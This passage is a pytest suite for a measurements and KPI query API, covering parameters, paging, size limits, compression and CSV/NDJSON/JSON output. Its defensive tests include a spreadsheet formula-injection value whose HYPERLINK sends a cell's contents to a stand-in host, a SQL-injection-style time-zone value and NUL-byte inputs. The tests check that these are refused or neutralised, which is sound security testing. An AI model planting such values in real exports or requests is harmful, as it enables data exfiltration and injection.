"""`GET /measurements`, `/kpis`, `/quality` and `/ingest/{raw_id}/raw`: parameters, forms, pages, caches, refusals."""

import base64
import csv
import gzip
import io
import json
from collections.abc import Callable, Iterator, Mapping, Sequence
from dataclasses import dataclass, field
from datetime import UTC, date, datetime, time, timedelta
from functools import cache
from random import Random
from typing import Any
from urllib.parse import parse_qs, urlsplit
from uuid import UUID
from zoneinfo import ZoneInfo

import pytest

from dropzone.domain.gold import (
    Arrivals,
    Gaps,
    Granularity,
    Kpi,
    Latency,
    Place,
    Pooled,
    Quality,
    Standing,
    Window,
)
from dropzone.domain.identifiers import received_at
from dropzone.domain.outcomes import NO_TAGS
from dropzone.domain.status import EventStatus, RejectedEvent, State, Status
from dropzone.ports import (
    BronzeError,
    BronzeUnavailableError,
    ObjectMissingError,
    RawObject,
    RowRefusedError,
    SilverError,
)
from dropzone.queries.sources import LastDay, Source, SourcesRequest, SourceState
from dropzone.query_ports import TooMuchAskedError
from dropzone_query import handler as query
from functional.lambda_calls import Context, api_event, header, json_body
from functional.test_status_request import ENVIRONMENT
from support.factories import measurement, raw_id, raw_ids

NOON = datetime(2026, 3, 4, 12, tzinfo=UTC)
RAW_ID = UUID("01a20e71-e5a4-700b-bae4-431c79e16819")
UPDATED = datetime(2026, 11, 24, 16, 44, 36, 201544, tzinfo=UTC)

SPREADSHEET = "text/csv; charset=utf-8; header=present; profile=spreadsheet"

LAMBDA_BYTES = 6_291_556
"""What Lambda lets an answer have, all in all."""


def standing(number: int, source: str = "", unit: str = "", tags: Mapping[str, str] = NO_TAGS) -> Standing:
    told = measurement(NOON - timedelta(seconds=number), mean=float(number), source=source)
    return Standing(told._replace(unit=unit, tags=tags), RAW_ID, number, UPDATED)


def arrivals(**changes: Any) -> Arrivals:  # noqa: ANN401 - any field's
    values: dict[str, Any] = {"processed": 3, "rejected": 1, "by_rule": {"data.empty": 1}, "latency": Latency(1.5, 9.0)}
    return Arrivals(**values | changes)


POOLED = Pooled(1.0, 0.5, 0.0, 2.0, NOON, NOON + timedelta(seconds=60))
KPI = Kpi(
    NOON,
    NOON + timedelta(hours=1),
    "a",
    2,
    4,
    POOLED,
    Gaps(1, 60.0, 30.0, 53.8),
    arrivals(),
)
BARE = Kpi(
    NOON,
    NOON + timedelta(hours=1),
    "b",
    0,
    0,
    None,
    Gaps(0, None, None, None),
    arrivals(processed=0, rejected=0, by_rule={}, latency=Latency(None, None)),
)


BOILER = Source(
    "boiler-7", SourceState.LATE, NOON - timedelta(days=3), NOON, NOON + timedelta(seconds=1), 60.0, LastDay(4, 1, 0.25)
)
NEVER = Source("boiler-8", SourceState.SILENT, None, None, None, None, LastDay(0, 0, None))


@dataclass(slots=True)
class Data:
    """Silver, gold and bronze that answer what they are told, and remember what they were asked."""

    standing: list[Standing] = field(default_factory=list)
    kpi: list[Kpi] = field(default_factory=list)
    qualities: list[Quality] = field(default_factory=list)
    sources: list[Source] = field(default_factory=list)
    objects: dict[UUID, RawObject | BronzeError] = field(default_factory=dict)
    asked: list[dict[str, Any]] = field(default_factory=list)
    events: list[EventStatus] = field(default_factory=list)
    refusal: SilverError | None = None
    too_much: bool = False

    def status(self, raw_id: UUID, *, after: int, limit: int) -> Status:
        told = tuple(event for event in self.events if event.item > after)[:limit]
        counts = {State.PROCESSED: len(self.events)}
        return Status(
            raw_id, State.PROCESSED, NOON, settled_at=NOON, items=len(self.events), counts=counts, events=told
        )

    def rejections(self, **asked: Any) -> list[RejectedEvent]:  # noqa: ANN401
        self.asked.append(asked)
        if self.refusal is not None:
            raise self.refusal
        return []

    def page(self, *, limit: int, **asked: Any) -> list[Standing]:  # noqa: ANN401 - as the port has it
        self.asked.append({**asked, "limit": limit})
        return self.standing[:limit]

    def at(self, instant: datetime, *, limit: int, **asked: Any) -> list[Standing]:  # noqa: ANN401
        self.asked.append({"at": instant, **asked, "limit": limit})
        return self.standing[:limit]

    def read_sources(self, request: SourcesRequest) -> list[Source]:
        self.asked.append({"request": request})
        return self.sources[: request.limit + 1]

    def knows_zone(self, name: str) -> bool:
        return name in {"UTC", "Europe/Berlin"}

    def day(self, day: date, tz: str) -> tuple[datetime, datetime]:
        midnights = (datetime.combine(each, time(), ZoneInfo(tz)) for each in (day, day + timedelta(days=1)))
        begins, ends = (midnight.astimezone(UTC) for midnight in midnights)
        return begins, ends

    def kpis(self, window: Window, *, limit: int, **asked: Any) -> list[Kpi]:  # noqa: ANN401
        self._asked(window, {**asked, "limit": limit})
        return self.kpi[:limit]

    def quality(self, window: Window, *, limit: int, after: Place | None) -> list[Quality]:
        self._asked(window, {"after": after, "limit": limit})
        return self.qualities[:limit]

    def _asked(self, window: Window, others: dict[str, Any]) -> None:
        if self.too_much:
            raise TooMuchAskedError
        self.asked.append({"window": window, **others})

    def read(self, identifiers: Sequence[UUID], *, timeout: float) -> list[RawObject | BronzeError]:
        assert timeout > 0
        return [self.objects.get(identifier, ObjectMissingError("gone")) for identifier in identifiers]


Get = Callable[..., dict[str, Any]]


@pytest.fixture
def data(monkeypatch: pytest.MonkeyPatch) -> Data:
    for name, value in ENVIRONMENT.items():
        monkeypatch.setenv(name, value)
    for made in ("settings", "database"):
        monkeypatch.setattr(query, made, cache(getattr(query, made).__wrapped__))
    data = Data()
    for made in ("measurements", "gold", "bronze", "statuses"):
        monkeypatch.setattr(query, made, lambda: data)
    monkeypatch.setattr(query, "read_sources", lambda _, request: data.read_sources(request))
    return data


@pytest.fixture
def get(data: Data) -> Get:
    del data

    def call(path: str, parameters: Mapping[str, str] | None = None, **headers: str) -> dict[str, Any]:
        names = {name.replace("_", "-"): value for name, value in headers.items()}
        event = api_event(b"", like="api-process", path=path, query=parameters or {}, headers={"Accept": None, **names})
        answer: dict[str, Any] = query.handler(event | {"httpMethod": "GET"}, Context())
        assert len(json.dumps(answer)) < LAMBDA_BYTES
        return answer

    return call


def refused(answer: dict[str, Any], status: int = 422) -> list[tuple[str, str]]:
    assert answer["statusCode"] == status
    assert header(answer, "Content-Type") == "application/problem+json"
    problem = json_body(answer)
    return [(violation["field"], violation["code"]) for violation in problem.get("violations", [])]


# ---- measurements ----------------------------------------------------------------------------------------------------


def test_measurements_with_all_that_is_known_of_them(get: Get, data: Data) -> None:
    data.standing = [standing(1, "boiler", "°C", {"site": "north"})]

    answer = get("/measurements")

    assert answer["statusCode"] == 200
    assert header(answer, "Content-Type") == "application/json"
    assert json_body(answer) == {
        "measurements": [
            {
                "measured_at": "2026-03-04T11:59:59Z",
                "source": "boiler",
                "mean": 1.0,
                "std_dev": 1.0,
                "sample_count": 2,
                "min": 0.0,
                "max": 2.0,
                "unit": "°C",
                "tags": {"site": "north"},
                "raw_id": str(RAW_ID),
                "item": 1,
                "received_at": "2026-11-24T16:44:35.108Z",
                "updated_at": "2026-11-24T16:44:36.201544Z",
            }
        ]
    }
    assert data.asked == [
        {"since": None, "until": None, "source": None, "after": None, "newest_first": True, "limit": 101}
    ]


def test_parameters_in_any_form_that_ingest_takes(get: Get, data: Data) -> None:
    parameters = {"from": "2026-03-04 13:00+01", "to": "2026-03-04T12:00:00,5Z", "source": "", "order": "asc"}
    get("/measurements", parameters | {"limit": "1000"})

    assert data.asked == [
        {
            "since": NOON,
            "until": NOON + timedelta(milliseconds=500),
            "source": "",
            "after": None,
            "newest_first": False,
            "limit": 1001,
        }
    ]


@pytest.mark.parametrize(
    ("parameters", "broken"),
    [
        ({"from": "yesterday"}, ("from", "request.invalid")),
        ({"to": "2026-02-30"}, ("to", "request.invalid")),
        ({"from": "2026-03-04T12:00"}, ("from", "request.invalid")),
        ({"from": "2026-03-04 12:00"}, ("from", "request.invalid")),
        ({"from": "2026-W10-3"}, ("from", "request.invalid")),
        ({"from": "20260304"}, ("from", "request.invalid")),
        ({"tz": "Mars/Olympus"}, ("tz", "request.time_zone")),
        ({"limit": "0"}, ("limit", "request.out_of_range")),
        ({"limit": "1001"}, ("limit", "request.out_of_range")),
        ({"limit": "ten"}, ("limit", "request.invalid")),
        ({"order": "down"}, ("order", "request.invalid")),
        ({"source": "x" * 201}, ("source", "request.out_of_range")),
        ({"source": "a\0b"}, ("source", "request.invalid")),
        ({"cursor": "1"}, ("cursor", "request.invalid")),
        ({"cursor": "."}, ("cursor", "request.invalid")),
        ({"cursor": "1.a\0"}, ("cursor", "request.invalid")),
        ({"cursor": f"1.{'x' * 201}"}, ("cursor", "request.invalid")),
        ({"cursor": "1234567890123456789.a"}, ("cursor", "request.invalid")),
        ({"page": "2"}, ("page", "request.unknown")),
    ],
)
def test_bad_parameters_of_measurements(get: Get, parameters: dict[str, str], broken: tuple[str, str]) -> None:
    assert refused(get("/measurements", parameters)) == [broken]


@pytest.mark.parametrize("path", ["/measurements", "/kpis", "/quality", "/rejections"])
@pytest.mark.parametrize(
    "sent",
    [
        "2026-03-04T13:00:00 01:00",
        "2026-03-04T13:00 01:00",
        "2026-03-04 13:00 0100",
        "2026-03-04T13:00:00.000 01",
        "2026-03-04 12:00Z",
    ],
)
def test_a_space_is_the_plus_that_it_was(get: Get, data: Data, path: str, sent: str) -> None:
    get(path, {"from": sent, "to": "2026-03-05T01:00:00 01:00"})

    assert range_asked(data) == (NOON, NOON + timedelta(hours=12))


def range_asked(data: Data) -> tuple[Any, Any]:
    """From when to when, of the last question."""
    asked = data.asked[-1]
    if "window" in asked:
        return asked["window"].since, asked["window"].until
    since, until = asked["since"], asked.get("until", asked.get("before"))
    return received_at(since) if isinstance(since, UUID) else since, (
        received_at(until) if isinstance(until, UUID) else until
    )


@pytest.mark.parametrize("path", ["/measurements", "/kpis", "/quality", "/rejections"])
@pytest.mark.parametrize(
    ("parameters", "begins", "ends"),
    [
        ({"from": "2026-03-04", "to": "2026-03-04"}, "2026-03-04T00:00Z", "2026-03-05T00:00Z"),
        ({"from": "2026-03-04", "to": "2026-03-05", "tz": "Europe/Berlin"}, "2026-03-03T23:00Z", "2026-03-05T23:00Z"),
        ({"from": "2026-03-29", "to": "2026-03-29", "tz": "Europe/Berlin"}, "2026-03-28T23:00Z", "2026-03-29T22:00Z"),
        ({"from": "2026-03-04", "to": "2026-03-04T12:00 01:00"}, "2026-03-04T00:00Z", "2026-03-04T11:00Z"),
    ],
)
def test_a_date_alone_is_a_day_of_the_time_zone(
    get: Get, data: Data, path: str, parameters: dict[str, str], begins: str, ends: str
) -> None:
    assert get(path, parameters)["statusCode"] == 200

    assert range_asked(data) == (datetime.fromisoformat(begins), datetime.fromisoformat(ends))


def test_a_page_leads_to_the_next(get: Get, data: Data) -> None:
    data.standing = [standing(number, source="ü") for number in range(5)]
    parameters = {"limit": "2", "source": "ü", "order": "desc"}

    answer = get("/measurements", parameters)
    body = json_body(answer)
    link = header(answer, "Link")
    assert link is not None
    target, relation = link.split("; ")
    following = {name: value for name, [value] in parse_qs(urlsplit(target.strip("<>")).query).items()}

    assert [entry["item"] for entry in body["measurements"]] == [0, 1]
    assert relation == 'rel="next"'
    assert following == parameters | {"cursor": body["cursor"]}
    get("/measurements", following)
    assert data.asked[1]["after"] == (NOON - timedelta(seconds=1), "ü")


def test_the_last_page_leads_nowhere(get: Get, data: Data) -> None:
    data.standing = [standing(number) for number in range(2)]

    answer = get("/measurements", {"limit": "2"})

    assert "cursor" not in json_body(answer)
    assert header(answer, "Link") is None


@pytest.mark.parametrize(
    ("cursor", "place"),
    [
        ("0.", (datetime(1970, 1, 1, tzinfo=UTC), "")),
        ("-1.a.b", (datetime(1969, 12, 31, 23, 59, 59, 999999, tzinfo=UTC), "a.b")),
        ("253402300799999999.x", (datetime.max.replace(tzinfo=UTC), "x")),
        ("-62135596800000000.x", (datetime.min.replace(tzinfo=UTC), "x")),
        ("999999999999999999.x", (datetime.max.replace(tzinfo=UTC), "x")),
        ("-999999999999999999.x", (datetime.min.replace(tzinfo=UTC), "x")),
    ],
)
def test_a_cursor_is_a_place(get: Get, data: Data, cursor: str, place: Place) -> None:
    assert get("/measurements", {"cursor": cursor})["statusCode"] == 200
    assert data.asked[0]["after"] == place


LAMBDA_ANSWER_BYTES = 6_291_556
"""The largest answer that Lambda passes on; for a larger one, the client gets 502."""

ROOM = 500_000

# Of an entry, up to 16 tags of 64 and 256 characters, which may need 12 bytes each where Lambda escapes them.
HEAVY = {f"{number:02}" + "\U0001f600" * 62: "\U0001f600" * 256 for number in range(16)}


@pytest.mark.parametrize("accept", ["application/json", "text/csv", "application/x-ndjson"])
def test_what_would_not_fit_through_lambda_is_cut_and_goes_on(get: Get, data: Data, accept: str) -> None:
    data.standing = [standing(number, "\U0001f600" * 200, tags=HEAVY) for number in range(1000)]
    read, parameters = [], {"limit": "1000"}

    while True:
        answer = get("/measurements", parameters, Accept=accept)
        found = items(answer, accept)
        read += found
        data.standing = data.standing[len(found) :]
        link = header(answer, "Link")
        if link is None:
            break
        # As much as goes, and room for whatever else the answer carries.
        assert 5_000_000 < len(json.dumps(answer)) < LAMBDA_ANSWER_BYTES - ROOM
        parameters = {name: value for name, [value] in parse_qs(urlsplit(link.split(">")[0][1:]).query).items()}

    assert read == list(range(1000))


@pytest.mark.parametrize("accept", ["application/json", "text/csv", "application/x-ndjson"])
def test_what_is_compressed_counts_as_it_is_sent(get: Get, data: Data, accept: str) -> None:
    # GIVEN entries that don't fit as they are, and do when they are compressed
    data.standing = [standing(number, "\U0001f600" * 200, tags=HEAVY) for number in range(1000)]

    answer = get("/measurements", {"limit": "1000"}, Accept=accept, Accept_Encoding="gzip, br")

    assert header(answer, "Content-Encoding") == "gzip"
    assert header(answer, "Link") is None
    assert items(unpacked(answer), accept) == list(range(1000))


def test_what_does_not_fit_even_compressed_is_cut_and_goes_on(get: Get, data: Data) -> None:
    random = Random(3)  # noqa: S311 - no secret
    tags = [{f"{tag:02}": random.randbytes(128).hex() for tag in range(16)} for _ in range(50)]
    data.standing = [
        standing(number, random.randbytes(100).hex(), tags=tags[number % 50] | {"x": random.randbytes(9_000).hex()})
        for number in range(1000)
    ]
    parameters = {"limit": "1000"}

    answer = get("/measurements", parameters, Accept_Encoding="gzip")

    listed = json_body(unpacked(answer))
    assert 5_000_000 < len(json.dumps(answer)) < LAMBDA_ANSWER_BYTES - ROOM
    assert [entry["item"] for entry in listed["measurements"]] == list(range(len(listed["measurements"])))
    # The next page goes on behind the last that fitted.
    last = data.standing[len(listed["measurements"]) - 1].measurement
    assert get("/measurements", {"cursor": listed["cursor"]})["statusCode"] == 200
    assert data.asked[-1]["after"] == (last.measured_at, last.source)


def unpacked(answer: dict[str, Any]) -> dict[str, Any]:
    """An answer as its client reads it."""
    assert (header(answer, "Content-Encoding"), answer["isBase64Encoded"]) == ("gzip", True)
    body = gzip.decompress(base64.b64decode(answer["body"])).decode()
    return answer | {"body": body, "isBase64Encoded": False}


@pytest.mark.parametrize("path", ["/measurements", "/kpis", "/quality", f"/ingest/{RAW_ID}"])
def test_compressed_answers_say_the_same_under_the_same_tag(get: Get, data: Data, path: str) -> None:
    data.standing = [standing(number) for number in range(100)]
    data.kpi, data.qualities = [KPI] * 100, [Quality(NOON, NOON, "a", arrivals())] * 100
    data.events = [EventStatus(number, State.PROCESSED, standing(number).measurement) for number in range(100)]
    parameters = {"to": "2026-03-04T12:00Z"} if path in {"/kpis", "/quality"} else {}

    plain, packed = get(path, parameters), get(path, parameters, Accept_Encoding="gzip")

    assert unpacked(packed)["body"] == plain["body"]
    assert header(packed, "ETag") == header(plain, "ETag")
    assert "Accept-Encoding" in str(header(plain, "Vary"))
    if tag := header(packed, "ETag"):
        assert get(path, parameters, Accept_Encoding="gzip", If_None_Match=tag)["statusCode"] == 304


def test_a_problem_is_small_and_not_compressed(get: Get) -> None:
    assert refused(get("/kpis", {"tz": "Nowhere"}, Accept_Encoding="gzip")) == [("tz", "request.time_zone")]


def test_a_batch_s_events_that_would_not_fit_through_lambda_go_on_at_the_cursor(get: Get, data: Data) -> None:
    heavy = standing(0, "\U0001f600" * 200, tags=HEAVY).measurement
    data.events = [EventStatus(number, State.PROCESSED, heavy) for number in range(400)]
    read: list[int] = []
    parameters = {"limit": "1000"}

    while True:
        answer = get(f"/ingest/{RAW_ID}", parameters)
        assert len(json.dumps(answer)) < LAMBDA_ANSWER_BYTES - ROOM
        told = json_body(answer)
        read += [event["item"] for event in told["events"]]
        if "cursor" not in told:
            break
        parameters["cursor"] = str(told["cursor"])

    assert read == list(range(400))


def test_a_source_that_postgres_can_not_hold_is_refused_and_never_asked_for(get: Get, data: Data) -> None:
    for path in ("/rejections", "/measurements", "/kpis", "/quality"):
        assert refused(get(path, {"source": "a\0"})) == [("source", "request.invalid")]
    assert data.asked == []


def test_what_the_database_refuses_to_compare_with_is_the_request_s_fault(get: Get, data: Data) -> None:
    data.refusal = RowRefusedError("SQLSTATE 22021")
    assert refused(get("/rejections", {"source": "x"})) == []


def items(answer: dict[str, Any], accept: str) -> list[int]:
    if accept == "text/csv":
        return [int(row["item"]) for row in csv.DictReader(io.StringIO(answer["body"]))]
    if accept == "application/x-ndjson":
        return [json.loads(line)["item"] for line in answer["body"].splitlines()]
    return [entry["item"] for entry in json_body(answer)["measurements"]]


def test_an_entry_that_is_larger_than_an_answer_is_given_all_the_same(
    get: Get, data: Data, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr("dropzone_query.pages.MOST_BYTES", 10)
    data.standing = [standing(number) for number in range(3)]

    assert len(json_body(get("/measurements"))["measurements"]) == 1


@pytest.mark.parametrize(
    ("accept", "form"),
    [
        ("application/json", "application/json"),
        ("*/*", "application/json"),
        ("application/*", "application/json"),
        ("text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8", "application/json"),
        ("text/csv", "text/csv"),
        ("TEXT/CSV; charset=utf-8", "text/csv"),
        ("text/*", "text/csv"),
        ("application/json;q=0.5, text/csv", "text/csv"),
        ("application/json;q=0, */*", "application/x-ndjson"),
        ("application/x-ndjson, application/json;q=0.9", "application/x-ndjson"),
        ("text/html", None),
        ("application/json;q=0", None),
        ("text/csv;q=x", None),
        ("text/csv; header=present", "text/csv; charset=utf-8; header=present"),
        ("text/csv; header=absent", None),
        ("text/csv; profile=spreadsheet", SPREADSHEET),
        ('text/csv; profile="spreadsheet"; charset=utf-8', SPREADSHEET),
        ("text/csv;q=0.5, text/csv;profile=spreadsheet", SPREADSHEET),
        ("text/csv, text/csv;profile=spreadsheet;q=0.5", "text/csv; charset=utf-8; header=present"),
        ("text/csv; profile=print", None),
        ("application/json; profile=print", "application/json"),
    ],
)
def test_the_format_is_what_the_client_accepts_best(get: Get, data: Data, accept: str, form: str | None) -> None:
    data.standing = [standing(0)]

    for path in ("/measurements", "/measurements/2026-03-04T12:00Z", "/kpis", "/quality", "/sources"):
        answer = get(path, Accept=accept)
        if form is None:
            assert refused(answer, 406) == []
        else:
            content_type = header(answer, "Content-Type")
            assert content_type is not None
            assert content_type == form if ";" in form else content_type.split(";")[0] == form
            assert header(answer, "Vary") == "Accept, Accept-Encoding"


LISTS = ["measurements", "kpis", "quality", "sources"]


@pytest.mark.parametrize("name", LISTS)
def test_csv_and_ndjson_say_the_same_as_json(get: Get, data: Data, name: str) -> None:
    data.standing = [standing(1, 'a "b", c', "°C", {"k": 'v"'}), standing(2)]
    data.kpi = [KPI._replace(source='a "b", c'), BARE]
    latency = Latency(2.0, 9.0, 1.5, 8.0)
    data.qualities = [Quality(NOON, NOON + timedelta(minutes=1), "ü\n", arrivals(latency=latency))]
    data.sources = [BOILER, NEVER]
    listed = json_body(get(f"/{name}"))[name]

    lines = get(f"/{name}", Accept="application/x-ndjson")["body"].splitlines()
    text = get(f"/{name}", Accept="text/csv")["body"]
    rows = list(csv.DictReader(io.StringIO(text, newline="")))

    assert text.endswith("\r\n")
    assert [json.loads(line) for line in lines] == listed
    for row, entry in zip(rows, listed, strict=True):
        cells = dict(flattened(entry))
        assert list(row) == list(cells)
        for column, value in cells.items():
            expected = "" if value is None else value
            assert row[column] == expected if isinstance(expected, str) else json.loads(row[column]) == value


def flattened(entry: Mapping[str, Any]) -> Iterator[tuple[str, Any]]:
    """An entry's values by their columns: objects of fixed fields have a column for each of them."""
    for name, value in entry.items():
        if name in {"gaps", "latency_ms", "last_day"}:
            yield from ((f"{name}_{part}", each) for part, each in value.items())
        else:
            yield name, value


@pytest.mark.parametrize("name", LISTS)
def test_csv_for_a_spreadsheet_is_marked_as_utf_8_and_runs_nothing(get: Get, data: Data, name: str) -> None:
    sources = ['=HYPERLINK("http://example.invalid/?"&A1,"open")', "+1", "-1", "@x", "\tx", "\rx", "＝1", "ü=1", "'=1"]
    data.standing = [standing(-1, source, "-°C") for source in sources]
    data.kpi = [KPI._replace(source=source, pooled=POOLED._replace(mean=-1.0)) for source in sources]
    data.qualities = [Quality(NOON, NOON, source, arrivals()) for source in sources]
    data.sources = [BOILER._replace(source=source) for source in sources]

    plain, shown = (get(f"/{name}", Accept=accept) for accept in ("text/csv", "text/csv; profile=spreadsheet"))

    assert header(shown, "Content-Disposition") == f'attachment; filename="{name}.csv"'
    assert shown["body"].startswith("\ufeff")
    rows, of_plain = (
        list(csv.DictReader(io.StringIO(answer["body"].removeprefix("\ufeff"), newline="")))
        for answer in (shown, plain)
    )
    assert [row["source"] for row in of_plain] == sources
    assert [row["source"] for row in rows] == [*(f"'{source}" for source in sources[:-2]), *sources[-2:]]
    # Numbers stay numbers, negative ones too, and everything else is the same.
    assert [row.get("mean", "-1.0") for row in rows] == ["-1.0"] * len(rows)
    for marked, bare in zip(rows, of_plain, strict=True):
        assert marked | {"source": "", "unit": ""} == bare | {"source": "", "unit": ""}


def test_plain_csv_has_no_mark_and_no_file_name(get: Get, data: Data) -> None:
    data.standing = [standing(1, "=1")]
    answer = get("/measurements", Accept="text/csv")

    assert answer["body"].startswith("measured_at,source,mean,")
    assert answer["body"].splitlines()[1].split(",")[1] == "=1"
    assert header(answer, "Content-Disposition") is None


def test_no_measurements_are_an_empty_list_in_every_form(get: Get) -> None:
    assert json_body(get("/measurements")) == {"measurements": []}
    assert get("/measurements", Accept="application/x-ndjson")["body"] == ""
    assert get("/measurements", Accept="text/csv")["body"].startswith("measured_at,source,mean,")


@pytest.mark.parametrize(
    "path",
    [
        "2026-03-04T13:00:00+01:00",
        "2026-03-04T12:00Z",
        "2026-03-04T13%3A00%3A00%2B01%3A00",
        "2026-03-04 07:00-05",
        "2026-03-04T13:00:00%2001:00",
    ],
)
def test_the_measurements_of_an_instant(get: Get, data: Data, path: str) -> None:
    data.standing = [standing(0, "a"), standing(0, "b")]

    body = json_body(get(f"/measurements/{path}"))

    assert [entry["source"] for entry in body["measurements"]] == ["a", "b"]
    assert data.asked == [{"at": NOON, "source": None, "after": None, "limit": 101}]


def test_an_instant_of_which_nothing_is_known(get: Get) -> None:
    assert refused(get("/measurements/2026-03-04T12:00:00Z", {"source": "a"}), 404) == []


@pytest.mark.parametrize("path", ["now", "2026-03-04", "2026-03-04T12:00:00", "%00"])
def test_what_is_no_instant(get: Get, path: str) -> None:
    assert refused(get(f"/measurements/{path}")) == [("measured_at", "request.invalid")]


# ---- kpis and quality ------------------------------------------------------------------------------------------------


def test_kpis(get: Get, data: Data) -> None:
    data.kpi = [KPI, BARE]

    body = json_body(get("/kpis", {"from": "2026-03-04T12:00Z", "to": "2026-03-04T13:00Z"}))

    assert body["granularity"] == "hour"
    assert body["tz"] == "UTC"
    assert body["kpis"] == [
        {
            "start": "2026-03-04T12:00:00Z",
            "end": "2026-03-04T13:00:00Z",
            "source": "a",
            "events": 2,
            "samples": 4,
            "mean": 1.0,
            "std_dev": 0.5,
            "min": 0.0,
            "max": 2.0,
            "first": "2026-03-04T12:00:00Z",
            "last": "2026-03-04T12:01:00Z",
            "gaps": {"count": 1, "longest_seconds": 60.0, "expected_seconds": 30.0, "longer_than_seconds": 53.8},
            "received": 4,
            "processed": 3,
            "rejected": 1,
            "rejected_share": 0.25,
            "rejected_by_rule": {"data.empty": 1},
            "latency_ms": {"mean": 1.5, "max": 9.0},
        },
        {
            "start": "2026-03-04T12:00:00Z",
            "end": "2026-03-04T13:00:00Z",
            "source": "b",
            **dict.fromkeys(("events", "samples", "received", "processed", "rejected"), 0),
            **dict.fromkeys(("mean", "std_dev", "min", "max", "first", "last", "rejected_share")),
            "gaps": {"count": 0, **dict.fromkeys(("longest_seconds", "expected_seconds", "longer_than_seconds"))},
            "rejected_by_rule": {},
            "latency_ms": {"mean": None, "max": None},
        },
    ]
    window = Window(Granularity.HOUR, NOON, NOON + timedelta(hours=1))
    assert data.asked == [{"window": window, "expected_seconds": None, "after": None, "limit": 5001}]


def test_kpis_as_they_are_asked_for(get: Get, data: Data) -> None:
    data.kpi = [KPI, BARE]
    parameters = {
        "granularity": "day",
        "from": "2026-03-04T12:00Z",
        "to": "2026-03-05T12:00Z",
        "source": "",
        "tz": "Europe/Berlin",
        "expected_seconds": "1.5",
        "limit": "1",
    }

    body = json_body(get("/kpis", parameters))
    get("/kpis", parameters | {"cursor": body["cursor"]})

    window = Window(Granularity.DAY, NOON, NOON + timedelta(days=1), "", "Europe/Berlin")
    asked = {"window": window, "expected_seconds": 1.5, "limit": 2}
    assert data.asked == [asked | {"after": None}, asked | {"after": (NOON, "a")}]
    assert (body["granularity"], body["tz"], len(body["kpis"])) == ("day", "Europe/Berlin", 1)


@pytest.mark.parametrize("path", ["/kpis", "/quality"])
def test_without_a_range_the_last_buckets_are_meant(get: Get, data: Data, path: str) -> None:
    for granularity in Granularity:
        get(path, {"granularity": granularity.value})
        window = data.asked.pop()["window"]

        assert abs(window.until - datetime.now(UTC)) < timedelta(minutes=1)
        assert window.until - window.since == granularity.usual_range
        assert window.buckets <= granularity.most_buckets


def test_before_the_first_year_there_is_nothing_to_look_back_to(get: Get, data: Data) -> None:
    get("/kpis", {"to": "0001-01-01T00:00:01Z"})

    assert data.asked[0]["window"].since == datetime.min.replace(tzinfo=UTC)


@pytest.mark.parametrize("path", ["/kpis", "/quality"])
@pytest.mark.parametrize(
    ("parameters", "broken"),
    [
        ({"granularity": "year"}, ("granularity", "request.invalid")),
        ({"tz": "Mars/Olympus"}, ("tz", "request.time_zone")),
        ({"tz": "CEST"}, ("tz", "request.time_zone")),
        ({"tz": "UTC'; --"}, ("tz", "request.time_zone")),
        ({"tz": ""}, ("tz", "request.time_zone")),
        ({"from": "2026-03-04T12:00Z", "to": "2026-03-04T12:00Z"}, ("from", "request.range_empty")),
        ({"from": "2026-03-04T12:00Z", "to": "2026-03-03T12:00Z"}, ("from", "request.range_empty")),
        (
            {"granularity": "minute", "from": "2026-03-04T12:00Z", "to": "2026-03-05T14:00Z"},
            ("from", "request.range_too_long"),
        ),
        ({"from": "0001-01-01T00:00Z", "to": "9999-12-31T23:59Z"}, ("from", "request.range_too_long")),
        ({"limit": "5001"}, ("limit", "request.out_of_range")),
        ({"cursor": "%"}, ("cursor", "request.invalid")),
    ],
)
def test_bad_parameters_of_buckets(get: Get, path: str, parameters: dict[str, str], broken: tuple[str, str]) -> None:
    assert refused(get(path, parameters)) == [broken]


@pytest.mark.parametrize("value", ["0", "-1", "nan", "inf", "1e9", "minute"])
def test_bad_expectations(get: Get, value: str) -> None:
    [(name, _)] = refused(get("/kpis", {"expected_seconds": value}))
    assert name == "expected_seconds"
    assert refused(get("/quality", {"expected_seconds": "1"})) == [("expected_seconds", "request.unknown")]


def test_the_longest_ranges(get: Get) -> None:
    for granularity in Granularity:
        longest = granularity.width * (granularity.most_buckets - 2)
        parameters = {"granularity": granularity.value, "to": "2026-03-04T12:00:00Z"}
        allowed = parameters | {"from": (NOON - longest).isoformat()}
        over = parameters | {"from": (NOON - longest - granularity.width).isoformat()}
        assert get("/kpis", allowed)["statusCode"] == 200
        assert refused(get("/kpis", over)) == [("from", "request.range_too_long")]


@pytest.mark.parametrize("path", ["/kpis", "/quality"])
def test_more_than_is_computed_at_once(get: Get, data: Data, path: str) -> None:
    data.too_much = True
    assert refused(get(path)) == [("from", "request.too_much")]


def test_quality(get: Get, data: Data) -> None:
    latency = Latency(2.0, 9.0, 1.5, 8.0)
    data.qualities = [Quality(NOON, NOON + timedelta(minutes=1), "a", arrivals(latency=latency))]

    body = json_body(get("/quality", {"granularity": "minute", "source": "a"}))

    assert body == {
        "quality": [
            {
                "start": "2026-03-04T12:00:00Z",
                "end": "2026-03-04T12:01:00Z",
                "source": "a",
                "received": 4,
                "processed": 3,
                "rejected": 1,
                "rejected_share": 0.25,
                "rejected_by_rule": {"data.empty": 1},
                "latency_ms": {"mean": 2.0, "p50": 1.5, "p95": 8.0, "max": 9.0},
            }
        ],
        "granularity": "minute",
        "tz": "UTC",
    }
    assert data.asked[0]["window"].source == "a"


# ---- sources ---------------------------------------------------------------------------------------------------------


def test_sources(get: Get, data: Data) -> None:
    data.sources = [BOILER, NEVER]

    assert json_body(get("/sources")) == {
        "sources": [
            {
                "source": "boiler-7",
                "state": "late",
                "first_measured_at": "2026-03-01T12:00:00Z",
                "last_measured_at": "2026-03-04T12:00:00Z",
                "last_received_at": "2026-03-04T12:00:01.000Z",
                "usual_interval_seconds": 60.0,
                "last_day": {"received": 4, "rejected": 1, "rejected_share": 0.25},
            },
            {
                "source": "boiler-8",
                "state": "silent",
                **dict.fromkeys(("first_measured_at", "last_measured_at", "last_received_at")),
                "usual_interval_seconds": None,
                "last_day": {"received": 0, "rejected": 0, "rejected_share": None},
            },
        ]
    }
    assert data.asked == [{"request": SourcesRequest()}]


@pytest.mark.parametrize("name", ["", "ü/1", "a.b"])
def test_a_page_of_sources_leads_to_the_next(get: Get, data: Data, name: str) -> None:
    data.sources = [BOILER._replace(source=name), NEVER]
    parameters = {"limit": "1", "state": "silent", "prefix": "b"}

    body = json_body(get("/sources", parameters))

    assert len(body["sources"]) == 1
